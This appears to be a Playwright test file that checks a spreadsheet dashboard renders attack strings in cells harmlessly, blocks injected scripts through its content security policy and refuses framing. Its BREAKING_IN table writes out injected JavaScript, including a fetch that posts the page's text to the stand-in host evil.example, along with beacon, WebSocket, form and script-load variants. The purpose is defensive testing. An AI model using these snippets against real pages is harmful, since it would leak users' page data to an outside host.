"""Attacks in cells do nothing in a browser, and the content security policy would stop a script that got through."""

import contextlib
import re
import socket
import threading
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page
from playwright.sync_api import Error as PlaywrightError

from tests.browser.conftest import OpenPage, Tabs, go, settle, visit
from tests.web import attacks, plan
from tests.web.served import Served, serving_locally

pytestmark = pytest.mark.slow

ADDRESSES = [
    "",
    "calendar",
    "calendar?event=E20",
    "calendar?event=E26",
    "my_shifts",
    "staffing",
    "staffing?show=People",
    "staffing?show=Clashes",
    "attendance",
    "attendance?by=Town",
    "attendance?by=Each+event",
    "follow_ups",
    "sheet_health",
    "changes",
    "reports",
]
"""A selection; `tests/web/test_attacks.py` checks what is sent in all views."""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with serving_locally(attacks.save(tmp_path_factory.mktemp("attacked") / "plan.xlsx", plan.TODAY)) as served:
        yield served


def test_attacks_in_cells_are_never_run_fetched_linked_or_formatted(open_page: OpenPage, attacked: Served) -> None:
    """`open_page` also fails on any request to another host, any dialog and any script error."""
    seen: set[int] = set()
    page = open_page(attacked)
    for address in ADDRESSES:
        visit(page, address)
        _open_popovers_and_tooltips(page)
        body = page.locator("body")
        links = body.locator("a[href]").evaluate_all("links => links.map(link => link.getAttribute('href'))")
        maps = re.compile(r"https://www\.google\.com/maps/dir/\?[^\s]*")
        others = [link for link in links if not link.startswith(f"{attacked.url}/")]  # ours name events by their IDs
        assert [
            link for link in others if "evil" in maps.sub("", link) or re.match(r"(?i)javascript|data|mailto", link)
        ] == []
        assert body.locator("[data-testid=stMain] img[src^=http]:not([src*=localhost])").count() == 0
        assert (
            body.locator(".katex, [data-testid=stMarkdownColoredText], iframe, [data-testid=stDialog] img").count() == 0
        )
        live = body.locator("[data-testid=stMain] :is(script, style, svg[onload], [onerror], [onclick])")
        assert [link for link in live.all_inner_texts() if "evil" in link or "zq" in link] == []
        for tag in ("h1", "h2", "h3", "li", "blockquote", "strong", "em", "code", "mark"):
            inside = " ".join(body.locator(f"[data-testid=stMain] {tag}").all_inner_texts())
            formatted = {attacks.typed(int(mark[2:-1])) for mark in attacks.MARK.findall(inside)}
            for typed in formatted:  # unchanged, with its punctuation
                assert _words(typed)[:20] in _words(inside), (tag, typed)
        seen |= {int(mark[2:-1]) for mark in attacks.MARK.findall(body.inner_text())}
    assert {number % len(attacks.ATTACKS) for number in seen} == set(range(len(attacks.ATTACKS)))


def _open_popovers_and_tooltips(page: Page) -> None:
    """Show long lists in full, open every expander and popover, and move the mouse over every chart."""
    more = page.get_by_role("button", name=re.compile(r"^Show \d+ more$"))
    for _ in range(more.count()):  # each goes when it is pressed
        more.first.click()
    for summary in page.locator("[data-testid=stExpander] summary").all():
        summary.click()
    settle(page)
    inert = page.get_by_role("dialog").count() > 0
    for popover in [] if inert else page.get_by_test_id("stPopover").all():
        popover.locator("button").first.click()
        settle(page)
        page.keyboard.press("Escape")
    for chart in page.get_by_test_id("stVegaLiteChart").all():
        box = chart.bounding_box()
        if box:
            for part in (0.2, 0.4, 0.6, 0.8):
                page.mouse.move(box["x"] + box["width"] * part, box["y"] + box["height"] / 2)
                page.wait_for_timeout(50)


def _words(text: str) -> str:
    """The text without white space and invisible characters."""
    return re.sub(r"[\s\u2060\u200b-\u200f\u202a-\u202e\u2066-\u2069\u00a0]+", "", text)


BREAKING_IN = {
    "a picture from elsewhere": "const added = new Image(); added.src = 'http://evil.example/x.png';"
    "document.body.append(added)",
    "a script from elsewhere": "const added = document.createElement('script'); added.src = 'http://evil.example/x.js';"
    "document.body.append(added)",
    "a script in the page": "const added = document.createElement('script'); added.textContent = 'window.broken = 1';"
    "document.body.append(added)",
    "a handler": "const added = document.createElement('div'); added.setAttribute('onclick', 'window.broken = 1');"
    "document.body.append(added); added.click()",
    "a javascript: link": "const added = document.createElement('a'); added.href = 'javascript:window.broken=1';"
    "document.body.append(added); added.click()",
    "eval": "setTimeout('window.broken = 1', 0)",
    "a letter home": "fetch('http://evil.example/', {method: 'POST', body: document.body.innerText}).catch(() => 0)",
    "a beacon": "navigator.sendBeacon('http://evil.example/', 'x')",
    "a socket": "try { new WebSocket('ws://evil.example/') } catch {}",
    "a form": "const added = document.createElement('form'); added.action = 'http://evil.example/';"
    "added.method = 'post'; document.body.append(added); added.submit()",
    "a frame": "const added = document.createElement('iframe'); added.src = 'http://evil.example/';"
    "document.body.append(added)",
    "another base": "const added = document.createElement('base'); added.href = 'http://evil.example/';"
    "document.head.append(added); const image = new Image(); image.src = 'x.png'; document.body.append(image)",
    "a plug-in": "const added = document.createElement('object'); added.data = 'http://evil.example/x.swf';"
    "document.body.append(added)",
    "a style from elsewhere": "const added = document.createElement('link'); added.rel = 'stylesheet';"
    "added.href = 'http://evil.example/x.css'; document.head.append(added)",
}


FRAMES = {"a frame", "a plug-in"}
"""Attacks that `bypass_csp` does not enable."""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another site: its address, and the first line of each request to it."""
    requests: list[str] = []
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()

        def wait() -> None:
            while True:
                try:
                    caller, _ = listener.accept()
                except OSError:
                    return
                with contextlib.suppress(OSError), caller:
                    caller.settimeout(2)
                    request = caller.recv(200).decode("latin-1")
                    if request:  # browsers also open idle connections
                        requests.append(request.splitlines()[0])
                        caller.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")

        threading.Thread(target=wait, daemon=True).start()
        yield f"elsewhere.example:{listener.getsockname()[1]}", requests


def try_to_break_in(page: Page, attack: str, address: str) -> None:
    page.evaluate(
        "() => { window.broken = null; window.stopped = false;"
        " addEventListener('securitypolicyviolation', () => { window.stopped = true }) }"
    )
    with contextlib.suppress(PlaywrightError):  # some attacks navigate away
        page.evaluate(f"() => {{ {BREAKING_IN[attack].replace('evil.example', address)} }}")


def test_content_security_policy_stops_injected_scripts(
    tabs: Tabs, sample: Served, elsewhere: tuple[str, list[str]]
) -> None:
    """The next test proves that each of these attacks works without the policy."""
    address, requests = elsewhere
    requests.clear()
    page = tabs.of(sample, "desk").page
    page.bring_to_front()
    go(page, sample, "")
    for attack in BREAKING_IN:
        try_to_break_in(page, attack, address)
        page.wait_for_function("() => window.stopped || window.broken !== null")
        assert page.evaluate("window.broken") is None, attack
    page.wait_for_timeout(500)
    assert requests == []
    assert page.evaluate("window.broken") is None
    page.goto("about:blank")


def test_injected_scripts_work_without_the_content_security_policy(
    browser: Browser, sample: Served, elsewhere: tuple[str, list[str]]
) -> None:
    address, requests = elsewhere
    requests.clear()
    page = browser.new_page(bypass_csp=True)
    failed = set()
    for attack in BREAKING_IN.keys() - FRAMES:
        page.goto(f"{sample.url}/healthz")  # of the same site, with the same policy, and opened at once
        try_to_break_in(page, attack, address)
        until = time.monotonic() + 30
        while not requests and page.evaluate("window.broken ?? null") is None:
            if time.monotonic() > until:
                failed.add(attack)
                break
            page.wait_for_timeout(20)
        requests.clear()
    page.close()
    assert failed == set()


def test_dashboard_cannot_be_framed_by_another_site(browser: Browser, sample: Served) -> None:
    page = browser.new_page()
    page.set_content(f'<iframe src="{sample.url}"></iframe>')
    framed = page.frames[-1]
    assert framed.url.startswith("chrome-error:"), "the browser refuses to show it"
    assert "SAMPLE" not in framed.content()
    page.close()
